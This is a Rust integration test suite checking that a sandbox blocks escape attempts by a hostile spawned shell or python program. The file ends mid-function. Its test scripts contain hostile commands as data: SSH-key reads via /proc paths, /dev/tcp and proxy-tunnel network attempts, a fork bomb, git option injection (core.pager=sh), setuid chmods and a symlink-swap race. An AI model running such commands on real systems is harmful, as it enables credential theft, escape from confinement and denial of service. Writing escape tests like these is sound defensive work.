//! The spawn primitive end to end (SPEC §5): a real guest (`spawner`) asks the daemon to run
//! declared programs through the real `aileron __spawn` helper. Most tests here are escape
//! attempts by a hostile connector that declared a shell (the worst case: the program itself is
//! the attacker's), each of which must be blocked with the daemon unharmed and no process left.

use std::io::Read;
use std::net::TcpListener;
use std::path::{Path, PathBuf};
use std::time::Duration;

use aileron_core::sha256::Sha256;
use http::StatusCode;
use serde_json::{Value, json};

use crate::support::{ActionSpec, Harness, guest_wasm, manifest};

const GUEST: &str = "spawner";
const SECRET: &str = "planted-ssh-key-7c1e0f";
const HOME_SECRET: &str = "planted-in-aileron-home-93ab";

struct Fixture {
    harness: Harness,
    user_home: PathBuf,
}

impl Fixture {
    /// The spawner guest with `spawn` as its `[capabilities.spawn]` body (`{home}` = the user
    /// home), extra manifest TOML, and one action `spawner` declaring `capabilities`.
    async fn new(spawn: &str, extra: &str, capabilities: &[&str], timeout_seconds: Option<u64>) -> Fixture {
        let harness = Harness::new();
        let user_home = harness.temp.path().join("user-home");
        for dir in ["code", "out", ".ssh", "bin"] {
            std::fs::create_dir_all(user_home.join(dir)).unwrap();
        }
        std::fs::write(user_home.join(".ssh/id_rsa"), SECRET).unwrap();
        std::fs::write(user_home.join("code/README"), "readable\n").unwrap();
        std::fs::create_dir_all(harness.home.root()).unwrap();
        std::fs::write(harness.home.root().join("planted"), HOME_SECRET).unwrap();
        let body = spawn.replace("{home}", &user_home.display().to_string());
        let text = manifest(GUEST, &[], &format!("{extra}\n[capabilities.spawn]\n{body}"));
        let hash = harness.install(GUEST, &guest_wasm(GUEST), &text).await;
        let inputs = [("spawn_op", "string", false), ("values", "object", false), ("envelope", "object", false)];
        let spec = ActionSpec {
            capabilities,
            inputs: &inputs,
            timeout_seconds,
            ..ActionSpec::new(GUEST, GUEST, &hash, "run")
        };
        let added = harness.add_action("spawner.md", &spec.render()).await;
        assert_eq!(added.status, StatusCode::CREATED, "{}", added.body);
        Fixture { harness, user_home }
    }

    async fn op(&self, op: &str, values: Value) -> crate::support::TestResponse {
        self.harness.run(GUEST, json!({"spawn_op": op, "values": values})).await
    }

    /// Runs `script` with the declared `bash -c {script}` operation; the guest's output.
    async fn bash(&self, script: &str) -> Value {
        let ran = self.op("sh", json!({"script": script})).await;
        assert_eq!(ran.status, StatusCode::OK, "{script}: {}", ran.body);
        ran.body["result"]["output"].clone()
    }

    async fn spawn_records(&self) -> Vec<Value> {
        self.harness.audit().await.into_iter().filter(|r| r["event_type"] == "spawn").collect()
    }
}

/// A shell and python, declared the way a hostile connector would.
fn hostile_spawn() -> String {
    r#"programs = [{ path = "/bin/bash" }, { path = "/usr/bin/python3" }]
fs_read = ["~/code/"]
fs_write = ["~/out/"]

[capabilities.spawn.operations.sh]
argv = "bash -c {script}"
description = "Run a shell script"

[capabilities.spawn.operations.py]
argv = "python3 -c {code}"
description = "Run python"
"#
    .to_string()
}

const HOSTILE_CAPABILITIES: &[&str] = &["run", "spawn:sh", "spawn:py"];

/// Processes whose command line holds `marker` (none may outlive a run).
fn processes_with(marker: &str) -> Vec<String> {
    let mut found = Vec::new();
    for entry in std::fs::read_dir("/proc").unwrap().flatten() {
        if let Ok(cmdline) = std::fs::read(entry.path().join("cmdline")) {
            let line = String::from_utf8_lossy(&cmdline).replace('\0', " ");
            if line.contains(marker) {
                found.push(format!("{}: {line}", entry.file_name().to_string_lossy()));
            }
        }
    }
    found
}

fn wait_until_gone(marker: &str) -> Vec<String> {
    for _ in 0..50 {
        if processes_with(marker).is_empty() {
            return Vec::new();
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    processes_with(marker)
}

#[tokio::test]
async fn a_declared_operation_runs_with_its_output_exit_code_and_an_audit_record() {
    let fixture = Fixture::new(&hostile_spawn(), "", HOSTILE_CAPABILITIES, None).await;
    let script = "echo hello; echo oops >&2; cat ~/code/README; exit 3";
    let output = fixture.bash(&script.replace("~", &fixture.user_home.display().to_string())).await;
    assert_eq!(output["status"], 3, "{output}");
    assert_eq!(output["stdout"], "hello\nreadable\n");
    assert_eq!(output["stderr"], "oops\n");

    let records = fixture.spawn_records().await;
    let record = records.last().expect("a spawn record");
    let payload = &record["payload"];
    assert_eq!(payload["aileron.spawn.program"], "/bin/bash");
    assert_eq!(payload["aileron.spawn.op"], "sh");
    assert_eq!(payload["aileron.spawn.argv_shape"], json!(["bash", "-c", "{script}"]));
    assert_eq!(payload["aileron.spawn.exit_code"], 3);
    let digest = format!("sha256:{}", hex::encode(Sha256::digest(b"hello\nreadable\n")));
    assert_eq!(payload["aileron.spawn.stdout.sha256"], digest);
    assert_eq!(payload["aileron.spawn.stdout.bytes"], 15);
    assert_eq!(payload["aileron.spawn.stderr.bytes"], 5);
    assert!(!record.to_string().contains("echo hello"), "argument values never reach the audit log: {record}");
}

#[tokio::test]
async fn output_beyond_the_caps_is_cut_with_a_marker() {
    let spawn =
        format!("{}\n[capabilities.spawn.limits]\nmax_stdout_bytes = 100\nmax_stderr_bytes = 10\n", hostile_spawn());
    let fixture = Fixture::new(&spawn, "", HOSTILE_CAPABILITIES, None).await;
    let output = fixture.bash("head -c 1000000 /dev/zero | tr '\\0' a; head -c 50 /dev/zero | tr '\\0' b >&2").await;
    let stdout = output["stdout"].as_str().unwrap();
    assert!(stdout.starts_with(&"a".repeat(100)) && !stdout.contains(&"a".repeat(101)), "{stdout}");
    assert!(stdout.ends_with("[aileron: output truncated after 100 bytes]\n"), "{stdout}");
    assert!(output["stderr"].as_str().unwrap().starts_with("bbbbbbbbbb\n[aileron"), "{output}");
    let record = fixture.spawn_records().await.pop().unwrap();
    assert_eq!(record["payload"]["aileron.spawn.stdout.truncated"], true);
    assert_eq!(record["payload"]["aileron.spawn.stdout.bytes"], 100);
}

#[tokio::test]
async fn the_filesystem_outside_the_declared_scopes_is_out_of_reach() {
    let fixture = Fixture::new(&hostile_spawn(), "", HOSTILE_CAPABILITIES, None).await;
    let home = fixture.user_home.display().to_string();
    let aileron_home = fixture.harness.home.root().display().to_string();
    let outside = fixture.harness.temp.path().join("pwned");
    let script = format!(
        "echo ok > {home}/out/allowed; echo x > {home}/code/pwned; echo x > {outside}; cat {home}/.ssh/id_rsa; \
         cat /proc/self/root{home}/.ssh/id_rsa; cat {aileron_home}/planted; ls -a {aileron_home}; \
         cat /proc/1/root{aileron_home}/planted; true",
        outside = outside.display()
    );
    let output = fixture.bash(&script).await;
    let everything = output.to_string();
    assert!(!everything.contains(SECRET), "~/.ssh was read: {everything}");
    assert!(!everything.contains(HOME_SECRET), "AILERON_HOME was read: {everything}");
    assert_eq!(std::fs::read_to_string(fixture.user_home.join("out/allowed")).unwrap(), "ok\n", "fs_write is writable");
    assert!(!fixture.user_home.join("code/pwned").exists(), "fs_read is read-only");
    assert!(!outside.exists(), "outside every scope");
    assert!(everything.contains("Permission denied"), "{everything}");
}

#[tokio::test]
async fn other_processes_and_the_daemon_are_invisible() {
    let fixture = Fixture::new(&hostile_spawn(), "", HOSTILE_CAPABILITIES, None).await;
    let daemon = std::process::id();
    let output = fixture
        .bash(&format!("test -e /proc/{daemon}/environ && echo DAEMON-VISIBLE; cat /proc/{daemon}/environ; ls /proc | grep -c '^[0-9]'"))
        .await;
    let stdout = output["stdout"].as_str().unwrap();
    assert!(!stdout.contains("DAEMON-VISIBLE"), "{output}");
    let processes: u32 = stdout.trim().lines().last().unwrap().parse().unwrap();
    assert!(processes <= 6, "only the namespace's own processes are listed: {output}");
}

#[tokio::test]
async fn no_network_without_declared_hosts_not_loopback_not_dns_not_unix_sockets() {
    let fixture = Fixture::new(&hostile_spawn(), "", HOSTILE_CAPABILITIES, None).await;
    let canary = TcpListener::bind("127.0.0.1:0").unwrap();
    canary.set_nonblocking(true).unwrap();
    let port = canary.local_addr().unwrap().port();
    let socket_dir = tempfile::tempdir().unwrap();
    let socket_path = socket_dir.path().join("canary.sock");
    let unix_canary = std::os::unix::net::UnixListener::bind(&socket_path).unwrap();
    unix_canary.set_nonblocking(true).unwrap();
    let daemon_port = crate::support::PORT;

    let output = fixture
        .bash(&format!(
            "echo hi > /dev/tcp/127.0.0.1/{port} && echo TCP-CONNECTED; echo hi > /dev/tcp/127.0.0.1/{daemon_port} && echo DAEMON; \
             echo hi > /dev/tcp/127.0.0.1/3128 && echo FORWARDER; getent hosts example.com && echo DNS-RESOLVED; true"
        ))
        .await;
    let stdout = output["stdout"].as_str().unwrap();
    for leak in ["TCP-CONNECTED", "DAEMON", "FORWARDER", "DNS-RESOLVED"] {
        assert!(!stdout.contains(leak), "{leak}: {output}");
    }
    assert!(canary.accept().is_err(), "the loopback canary was reached");

    let code = format!(
        "import socket\ns = socket.socket(socket.AF_UNIX)\ntry:\n    s.connect({:?}); print('UNIX-CONNECTED')\nexcept OSError as e:\n    print('refused', e)",
        socket_path.display().to_string()
    );
    // A newline is refused in a placeholder value, so the program is written with `;` and exec.
    let one_line = format!("exec({code:?})");
    let ran = fixture.op("py", json!({"code": one_line})).await;
    assert_eq!(ran.status, StatusCode::OK, "{}", ran.body);
    assert!(!ran.body.to_string().contains("UNIX-CONNECTED"), "{}", ran.body);
    assert!(unix_canary.accept().is_err(), "the Unix-socket canary was reached");
}

/// The eleventh re-attack: a program looping on an allowed destination wrote an fsynced record per
/// connection (16,947 in 30 s). A spawn opens at most 256, each recorded; the rest are refused and
/// counted like any refusal (one record, then the summary).
#[tokio::test]
async fn a_spawn_opens_a_bounded_number_of_connections() {
    let upstream = TcpListener::bind("127.0.0.1:0").unwrap();
    let upstream_port = upstream.local_addr().unwrap().port();
    std::thread::spawn(move || for _stream in upstream.incoming().flatten() {});
    let hosts = format!("[capabilities.network]\nhosts = [\"127.0.0.1:{upstream_port}\"]\n");
    let fixture = Fixture::new(&hostile_spawn(), &hosts, HOSTILE_CAPABILITIES, None).await;
    let code = format!(
        "import socket; print(sum((lambda s: (s.sendall(b'CONNECT 127.0.0.1:{upstream_port} HTTP/1.1\\r\\n\\r\\n'), \
         s.recv(12).startswith(b'HTTP/1.1 200'), s.close())[1])(socket.create_connection(('127.0.0.1', 3128))) \
         for _ in range(270)))"
    );
    let ran = fixture.op("py", json!({"code": code})).await;
    assert_eq!(ran.status, StatusCode::OK, "{}", ran.body);
    let output = ran.body["result"]["output"].clone();
    assert_eq!(output["stdout"].as_str().unwrap().trim(), "256", "{output}");
    let network: Vec<Value> =
        fixture.harness.audit().await.into_iter().filter(|r| r["event_type"] == "spawn.network").collect();
    let refused = |record: &&Value| record["payload"].get("aileron.connector.reject_reason").is_some();
    assert_eq!(network.iter().filter(|record| !refused(record)).count(), 256);
    assert!(network.len() <= 256 + 2, "{} records", network.len());
    assert!(
        network.iter().any(|record| record["payload"]["aileron.connector.reject_reason"] == "resource_limit_exceeded")
    );
}

#[tokio::test]
async fn connections_go_through_the_per_spawn_proxy_to_declared_hosts_only() {
    // An upstream that answers "pong" to anything; the manifest names it literally.
    let upstream = TcpListener::bind("127.0.0.1:0").unwrap();
    let upstream_port = upstream.local_addr().unwrap().port();
    std::thread::spawn(move || {
        for stream in upstream.incoming().flatten() {
            let mut stream = stream;
            let mut buffer = [0u8; 4];
            if stream.read_exact(&mut buffer).is_ok() {
                let _ = std::io::Write::write_all(&mut stream, b"pong");
            }
        }
    });
    let hosts = format!("[capabilities.network]\nhosts = [\"127.0.0.1:{upstream_port}\"]\n");
    let fixture = Fixture::new(&hostile_spawn(), &hosts, HOSTILE_CAPABILITIES, None).await;
    let tunnel = |target: &str| {
        format!(
            "exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT {target} HTTP/1.1\\r\\nHost: {target}\\r\\n\\r\\n' >&3; \
             head -c 12 <&3; echo; printf ping >&3; timeout 5 cat <&3 | tail -c 4"
        )
    };
    let allowed = fixture.bash(&tunnel(&format!("127.0.0.1:{upstream_port}"))).await;
    let stdout = allowed["stdout"].as_str().unwrap();
    assert!(stdout.starts_with("HTTP/1.1 200"), "{allowed}");
    assert!(stdout.ends_with("pong"), "{allowed}");

    let refused = fixture.bash(&tunnel("203.0.113.7:443")).await;
    assert!(refused["stdout"].as_str().unwrap().starts_with("HTTP/1.1 403"), "{refused}");

    let network: Vec<Value> =
        fixture.harness.audit().await.into_iter().filter(|r| r["event_type"] == "spawn.network").collect();
    assert_eq!(network.len(), 2, "{network:?}");
    let (refusals, connections): (Vec<&Value>, Vec<&Value>) =
        network.iter().partition(|record| record["payload"].get("aileron.connector.reject_reason").is_some());
    assert_eq!(connections[0]["payload"]["aileron.proxy.upstream.host"], format!("127.0.0.1:{upstream_port}"));
    assert_eq!(refusals[0]["payload"]["aileron.proxy.upstream.host"], "203.0.113.7:443");
    assert_eq!(refusals[0]["payload"]["aileron.connector.reject_reason"], "capability_denied");
    assert_eq!(refusals[0]["payload"]["aileron.spawn.op"], "sh");
}

#[tokio::test]
async fn bombs_and_runaways_are_stopped_and_leave_nothing_behind() {
    let fixture = Fixture::new(&hostile_spawn(), "", HOSTILE_CAPABILITIES, Some(3)).await;
    // Fork bomb: bounded by the namespace's process limit, killed at the wall time at the latest.
    let started = std::time::Instant::now();
    let bomb = fixture.op("sh", json!({"script": "f(){ f|f& }; f; sleep 30 # fork-bomb-4d2a"})).await;
    assert!(started.elapsed() < Duration::from_secs(20), "the bomb was not stopped");
    assert!(bomb.status == StatusCode::OK || bomb.body["error"]["class"] == "resource_limit_exceeded", "{}", bomb.body);
    assert_eq!(wait_until_gone("fork-bomb-4d2a"), Vec::<String>::new());

    // A child that ignores SIGTERM and double-forks a sleeper that outlives it.
    let runaway =
        fixture.op("sh", json!({"script": "trap '' TERM; (trap '' TERM; setsid sleep 987654 &) ; sleep 987653"})).await;
    assert_eq!(runaway.body["error"]["class"], "resource_limit_exceeded", "{}", runaway.body);
    assert_eq!(runaway.body["error"]["details"]["limit"], "time", "{}", runaway.body);
    assert_eq!(wait_until_gone("98765"), Vec::<String>::new());

    // Memory bomb: the address-space limit stops it inside the program.
    let memory = fixture.op("py", json!({"code": "b = bytearray(16 << 30); print('ALLOCATED')"})).await;
    assert_eq!(memory.status, StatusCode::OK, "{}", memory.body);
    assert!(!memory.body.to_string().contains("ALLOCATED"), "{}", memory.body);
    assert!(memory.body["result"]["output"]["stderr"].as_str().unwrap().contains("MemoryError"), "{}", memory.body);

    // The daemon is unharmed: the next spawn works.
    let after = fixture.bash("echo alive").await;
    assert_eq!(after["stdout"], "alive\n");
}

#[tokio::test]
async fn values_cannot_become_options_and_undeclared_programs_never_run() {
    let spawn = r#"programs = [{ path = "/usr/bin/git" }]

[capabilities.spawn.operations.show]
argv = "git show {rev} -- {path}"
description = "Show a file"
"#;
    let fixture = Fixture::new(spawn, "", &["run", "spawn:show"], None).await;
    let injected = fixture.op("show", json!({"rev": "--output=/tmp/aileron-pwned", "path": "x"})).await;
    assert_eq!(injected.body["error"]["class"], "capability_denied", "{}", injected.body);
    assert_eq!(injected.body["error"]["details"]["boundary_detail"], "envelope", "{}", injected.body);
    let missing = fixture.op("show", json!({"path": "x"})).await;
    assert_eq!(missing.body["error"]["details"]["boundary_detail"], "envelope", "{}", missing.body);

    let undeclared =
        fixture.harness.run(GUEST, json!({"envelope": {"program": "/bin/sh", "argv": ["sh", "-c", "id"]}})).await;
    assert_eq!(undeclared.body["error"]["class"], "capability_denied", "{}", undeclared.body);
    let smuggled = fixture
        .harness
        .run(GUEST, json!({"envelope": {"program": "/usr/bin/git", "argv": ["git", "-c", "core.pager=sh", "show", "HEAD", "--", "x"]}}))
        .await;
    assert_eq!(smuggled.body["error"]["class"], "capability_denied", "{}", smuggled.body);
    let undeclared_op = fixture.op("push", json!({})).await;
    assert_eq!(undeclared_op.body["error"]["class"], "capability_denied", "{}", undeclared_op.body);
    assert!(!Path::new("/tmp/aileron-pwned").exists());
    // Every refusal is audited as a spawn record with its reason.
    let refusals = fixture.spawn_records().await;
    assert_eq!(refusals.len(), 5, "{refusals:?}");
    assert!(refusals.iter().all(|r| r["payload"]["aileron.connector.reject_reason"] == "capability_denied"));
}

#[tokio::test]
async fn an_undeclared_spawn_operation_is_refused_at_the_action_boundary() {
    let fixture = Fixture::new(&hostile_spawn(), "", &["run", "spawn:py"], None).await;
    let ran = fixture.op("sh", json!({"script": "id"})).await;
    assert_eq!(ran.body["error"]["class"], "capability_denied", "{}", ran.body);
    assert_eq!(ran.body["error"]["boundary"], "action", "{}", ran.body);
}

fn sha256_file(path: &Path) -> String {
    format!("sha256:{}", hex::encode(Sha256::digest(std::fs::read(path).unwrap())))
}

#[tokio::test]
async fn setuid_programs_pinned_hashes_and_swapped_symlinks() {
    let bin = tempfile::tempdir().unwrap();
    let setuid = bin.path().join("setuid-true");
    std::fs::copy("/bin/true", &setuid).unwrap();
    std::fs::set_permissions(&setuid, std::os::unix::fs::PermissionsExt::from_mode(0o4755)).unwrap();
    let link = bin.path().join("tool");
    std::os::unix::fs::symlink("/bin/true", &link).unwrap();
    let spawn = format!(
        r#"programs = [{{ path = "{setuid}" }}, {{ path = "{link}", hash = "{pin}" }}, {{ path = "/bin/false", hash = "sha256:{zeros}" }}]

[capabilities.spawn.operations.setuid]
argv = "{setuid}"
description = "A setuid program"

[capabilities.spawn.operations.tool]
argv = "{link}"
description = "A pinned program behind a symlink"

[capabilities.spawn.operations.wrong]
argv = "false"
description = "A program pinned to other bytes"
"#,
        setuid = setuid.display(),
        link = link.display(),
        pin = sha256_file(Path::new("/bin/true")),
        zeros = "0".repeat(64),
    );
    let fixture = Fixture::new(&spawn, "", &["run", "spawn:setuid", "spawn:tool", "spawn:wrong"], None).await;
    let refused = fixture.op("setuid", json!({})).await;
    assert_eq!(refused.body["error"]["class"], "capability_denied", "{}", refused.body);
    assert!(refused.body["error"]["message"].as_str().unwrap().contains("setuid"), "{}", refused.body);

    let pinned = fixture.op("tool", json!({})).await;
    assert_eq!(pinned.status, StatusCode::OK, "{}", pinned.body);
    assert_eq!(pinned.body["result"]["output"]["status"], 0);
    // The link now leads to other bytes: the pin catches it, whatever the path says.
    std::fs::remove_file(&link).unwrap();
    std::os::unix::fs::symlink("/bin/false", &link).unwrap();
    let swapped = fixture.op("tool", json!({})).await;
    assert_eq!(swapped.body["error"]["class"], "hash_mismatch", "{}", swapped.body);

    let wrong = fixture.op("wrong", json!({})).await;
    assert_eq!(wrong.body["error"]["class"], "hash_mismatch", "{}", wrong.body);

    // The race: the link flips between the pinned binary and another as fast as it can while
    // calls run. Each call runs the pinned bytes or is refused; the other binary never runs.
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let flipper = {
        let (stop, link, dir) = (stop.clone(), link.clone(), bin.path().to_path_buf());
        std::thread::spawn(move || {
            let mut flips = 0u64;
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                let target = if flips.is_multiple_of(2) { "/bin/true" } else { "/bin/false" };
                let staged = dir.join("staged");
                let _ = std::fs::remove_file(&staged);
                std::os::unix::fs::symlink(target, &staged).unwrap();
                std::fs::rename(&staged, &link).unwrap();
                flips += 1;
            }
            flips
        })
    };
    let mut outcomes = std::collections::BTreeMap::new();
    for _ in 0..40 {
        let ran = fixture.op("tool", json!({})).await;
        let outcome = match ran.body["result"]["output"]["status"].as_i64() {
            Some(code) => format!("exit {code}"),
            None => ran.body["error"]["class"].as_str().unwrap_or("?").to_string(),
        };
        *outcomes.entry(outcome).or_insert(0) += 1;
    }
    stop.store(true, std::sync::atomic::Ordering::Relaxed);
    assert!(flipper.join().unwrap() > 40, "the link flipped during the calls");
    assert!(!outcomes.contains_key("exit 1"), "the unpinned binary ran: {outcomes:?}");
    assert!(
        outcomes.keys().all(|outcome| ["exit 0", "hash_mismatch", "capability_denied"].contains(&outcome.as_str())),
        "{outcomes:?}"
    );
}

#[tokio::test]
async fn the_credential_reaches_only_the_childs_declared_environment() {
    const KEY: &str = "planted-spawn-credential-51f0";
    let spawn = r#"programs = [{ path = "/bin/bash" }]
env_passthrough = ["GH_TOKEN"]
credential_env_keys = ["GH_TOKEN"]

[capabilities.spawn.operations.sh]
argv = "bash -c {script}"
description = "Run a shell script"
"#;
    let credential = "[capabilities.credential]\nkind = \"api_key\"\nscope = \"push\"\n";
    let harness_with_key = |declares: bool| async move {
        let capabilities: &[&str] = if declares { &["run", "spawn:sh", "api_key"] } else { &["run", "spawn:sh"] };
        let harness = Harness::with_credentials(std::sync::Arc::new(crate::support::PlantedKey(KEY)));
        let hash = harness
            .install(
                GUEST,
                &guest_wasm(GUEST),
                &manifest(GUEST, &[], &format!("{credential}[capabilities.spawn]\n{spawn}")),
            )
            .await;
        let inputs = [("spawn_op", "string", false), ("values", "object", false)];
        let spec = ActionSpec { capabilities, inputs: &inputs, ..ActionSpec::new(GUEST, GUEST, &hash, "run") };
        assert_eq!(harness.add_action("spawner.md", &spec.render()).await.status, StatusCode::CREATED);
        harness
    };
    let harness = harness_with_key(true).await;
    let ran = harness.run(GUEST, json!({"spawn_op": "sh", "values": {"script": "test \"$GH_TOKEN\" = planted-spawn-credential-51f0 && echo HAS-KEY; env | cut -d= -f1 | sort | tr '\\n' ' '"}})).await;
    assert_eq!(ran.status, StatusCode::OK, "{}", ran.body);
    let stdout = ran.body["result"]["output"]["stdout"].as_str().unwrap();
    assert!(stdout.starts_with("HAS-KEY"), "{stdout}");
    assert!(!ran.body.to_string().contains(KEY), "the key never comes back through the guest: {}", ran.body);
    let leaked = crate::support::files_containing(harness.temp.path(), KEY.as_bytes());
    assert_eq!(leaked, Vec::<String>::new(), "the key is in no file of the home (audit, journals)");

    // Without `api_key` in the action, the program runs without the credential.
    let harness = harness_with_key(false).await;
    let ran = harness.run(GUEST, json!({"spawn_op": "sh", "values": {"script": "echo \"[$GH_TOKEN]\""}})).await;
    assert_eq!(ran.body["result"]["output"]["stdout"], "[]\n", "{}", ran.body);
}

#[tokio::test]
async fn without_namespaces_nothing_runs_and_the_failure_says_so() {
    // The helper started in a user namespace where this user has no mapping: a nested user
    // namespace cannot be created there, as on machines that disable them.
    let wrapper_dir = tempfile::tempdir().unwrap();
    let wrapper = wrapper_dir.path().join("helper");
    std::fs::write(&wrapper, format!("#!/bin/sh\nexec unshare --user {} \"$@\"\n", env!("CARGO_BIN_EXE_aileron")))
        .unwrap();
    std::fs::set_permissions(&wrapper, std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
    let harness = Harness::with_options(|options| options.spawn_helper = Some(wrapper.clone()));
    let canary = harness.temp.path().join("ran");
    let spawn = hostile_spawn().replace("~/out/", &format!("{}/", harness.temp.path().display()));
    let hash = harness
        .install(GUEST, &guest_wasm(GUEST), &manifest(GUEST, &[], &format!("[capabilities.spawn]\n{spawn}")))
        .await;
    let inputs = [("spawn_op", "string", false), ("values", "object", false)];
    let spec = ActionSpec {
        capabilities: HOSTILE_CAPABILITIES,
        inputs: &inputs,
        ..ActionSpec::new(GUEST, GUEST, &hash, "run")
    };
    assert_eq!(harness.add_action("spawner.md", &spec.render()).await.status, StatusCode::CREATED);
    let ran = harness
        .run(GUEST, json!({"spawn_op": "sh", "values": {"script": format!("touch {}", canary.display())}}))
        .await;
    assert_eq!(ran.body["error"]["class"], "spawn_sandbox_unavailable", "{}", ran.body);
    assert_eq!(ran.status.as_u16(), 503, "{}", ran.body);
    assert!(ran.body["error"]["message"].as_str().unwrap().contains("namespaces"), "{}", ran.body);
    assert!(!canary.exists(), "the program ran unconfined");
}

/// The shipped git example connector and its actions, through the real helper on a real
/// repository: log, status and diff --stat; the repository outside its `fs_read` stays unread.
#[tokio::test]
async fn the_git_example_connector_reads_a_repository_and_nothing_else() {
    if !Path::new(aileron::surfaces::cli::demo::GIT_PROGRAM).exists() {
        panic!("{} is required by this test (Debian package git)", aileron::surfaces::cli::demo::GIT_PROGRAM);
    }
    let harness = Harness::new();
    let repos = harness.temp.path().join("code");
    let repo = repos.join("sample");
    std::fs::create_dir_all(&repo).unwrap();
    let git = |args: &[&str]| {
        let status = std::process::Command::new("/usr/bin/git")
            .args(args)
            .current_dir(&repo)
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .env("GIT_AUTHOR_NAME", "Ada")
            .env("GIT_AUTHOR_EMAIL", "ada@example.invalid")
            .env("GIT_COMMITTER_NAME", "Ada")
            .env("GIT_COMMITTER_EMAIL", "ada@example.invalid")
            .output()
            .unwrap();
        assert!(status.status.success(), "{status:?}");
    };
    git(&["init", "-q", "-b", "main"]);
    std::fs::write(repo.join("a.txt"), "one\n").unwrap();
    git(&["add", "a.txt"]);
    git(&["commit", "-q", "-m", "First commit"]);
    std::fs::write(repo.join("a.txt"), "one\ntwo\n").unwrap();
    std::fs::write(repo.join("new.txt"), "x\n").unwrap();

    let package = harness.temp.path().join("git-package");
    std::fs::create_dir_all(&package).unwrap();
    std::fs::write(package.join("connector.wasm"), aileron::surfaces::cli::demo::GIT_WASM).unwrap();
    std::fs::write(package.join("manifest.toml"), aileron::surfaces::cli::demo::git_manifest_for(&repos)).unwrap();
    let reference = "github://aileron/git@0.1.0";
    let preview = harness
        .request("POST", "/v1/connectors/preview", Some(json!({"source": package, "reference": reference})))
        .await;
    assert_eq!(preview.status, StatusCode::OK, "{}", preview.body);
    let body = json!({"source": package, "reference": reference, "expected_hash": preview.body["hash"], "consent": "flag", "allow_unsigned": true});
    let installed = harness.request("POST", "/v1/connectors/install", Some(body)).await;
    assert_eq!(installed.status, StatusCode::CREATED, "{}", installed.body);
    let hash = installed.body["hash"].as_str().unwrap();
    for (file_name, template) in aileron::surfaces::cli::demo::GIT_ACTIONS {
        let added =
            harness.add_action(file_name, &aileron::surfaces::cli::demo::render_git_action(template, hash)).await;
        assert_eq!(added.status, StatusCode::CREATED, "{file_name}: {}", added.body);
    }

    let log = harness.run("git-log", json!({"repo": repo, "count": 5})).await;
    assert_eq!(log.status, StatusCode::OK, "{}", log.body);
    let commits = log.body["result"]["output"].as_array().unwrap();
    assert_eq!(commits.len(), 1, "{}", log.body);
    assert_eq!(commits[0]["subject"], "First commit");
    assert_eq!(commits[0]["author"], "Ada");

    let status = harness.run("git-status", json!({"repo": repo})).await;
    assert_eq!(status.status, StatusCode::OK, "{}", status.body);
    assert_eq!(
        status.body["result"]["output"]["changes"],
        json!([{"status": "M", "path": "a.txt"}, {"status": "??", "path": "new.txt"}])
    );
    assert!(!repo.join(".git/index.lock").exists());

    let diff = harness.run("git-diff-stat", json!({"repo": repo})).await;
    assert_eq!(diff.status, StatusCode::OK, "{}", diff.body);
    assert_eq!(diff.body["result"]["output"]["files"], json!([{"path": "a.txt", "changes": "1 +"}]));

    // A repository outside fs_read: Landlock keeps git out, it fails, nothing is read.
    let outside = harness.temp.path().join("elsewhere");
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::rename(repo.join(".git"), outside.join(".git")).unwrap();
    let refused = harness.run("git-log", json!({"repo": outside})).await;
    assert_eq!(refused.body["error"]["class"], "connector_runtime_error", "{}", refused.body);
    assert!(!refused.body.to_string().contains("First commit"), "{}", refused.body);
}

/// Runs `script` with bash through an envelope asking for `cwd`; the daemon's answer.
async fn bash_in(fixture: &Fixture, cwd: &Path, script: &str) -> crate::support::TestResponse {
    let envelope = json!({"program": "/bin/bash", "argv": ["bash", "-c", script], "cwd": cwd});
    fixture.harness.run(GUEST, json!({"envelope": envelope})).await
}

/// The eleventh re-attack: Landlock governs writes, not `chmod`, `utime` or `setxattr`, so a
/// program scoped to `~/out` made `~/.ssh/id_rsa` 0644 and `~/.bashrc` 0666 for every local user;
/// and in its own write scope it could leave a set-user-ID program that any local user runs as
/// the user. Outside its write scopes the filesystem is a read-only mount to it; set-ID modes are
/// refused everywhere.
#[tokio::test]
async fn a_program_changes_no_mode_outside_its_write_scopes_and_sets_no_set_id_bit() {
    use std::os::unix::fs::PermissionsExt as _;
    let fixture = Fixture::new(&hostile_spawn(), "", HOSTILE_CAPABILITIES, None).await;
    let home = fixture.user_home.display().to_string();
    let bashrc = fixture.user_home.join(".bashrc");
    std::fs::write(&bashrc, "# the user's\n").unwrap();
    std::fs::set_permissions(&bashrc, std::fs::Permissions::from_mode(0o644)).unwrap();
    std::fs::set_permissions(fixture.user_home.join(".ssh/id_rsa"), std::fs::Permissions::from_mode(0o600)).unwrap();
    let script = format!(
        "chmod 666 {home}/.bashrc; chmod 644 {home}/.ssh/id_rsa; touch -d 2001-01-01 {home}/.bashrc; \
         cp /bin/true {home}/out/tool; chmod 4755 {home}/out/tool; chmod g+s {home}/out/tool; \
         python3 -c \"import os; os.close(os.open('{home}/out/made', os.O_CREAT | os.O_WRONLY, 0o4755))\"; \
         chmod 700 {home}/out/tool && echo owner-mode-ok; true"
    );
    let output = fixture.bash(&script).await;
    let mode = |path: &Path| std::fs::metadata(path).unwrap().permissions().mode() & 0o7777;
    assert_eq!(mode(&bashrc), 0o644, "{output}");
    assert_eq!(mode(&fixture.user_home.join(".ssh/id_rsa")), 0o600, "{output}");
    assert!(
        std::fs::metadata(&bashrc).unwrap().modified().unwrap()
            > std::time::UNIX_EPOCH + Duration::from_secs(1_500_000_000)
    );
    assert!(output["stderr"].as_str().unwrap().contains("Read-only file system"), "{output}");
    assert_eq!(mode(&fixture.user_home.join("out/tool")), 0o700, "a plain mode in its scope is its own: {output}");
    assert!(output["stdout"].as_str().unwrap().contains("owner-mode-ok"), "{output}");
    let made = fixture.user_home.join("out/made");
    assert!(!made.exists() || mode(&made) & 0o6000 == 0, "created set-ID: {output}");
}

/// The re-attack's H1: a working directory inside a read-only scope was granted read-write, so a
/// program planted `.git/hooks/pre-commit` in a repository it could only read (run unconfined at
/// the user's next commit); a manifest `cwd = "~/"` gave read-write to the whole home.
#[tokio::test]
async fn the_working_directory_has_only_the_access_of_the_scope_it_lies_in() {
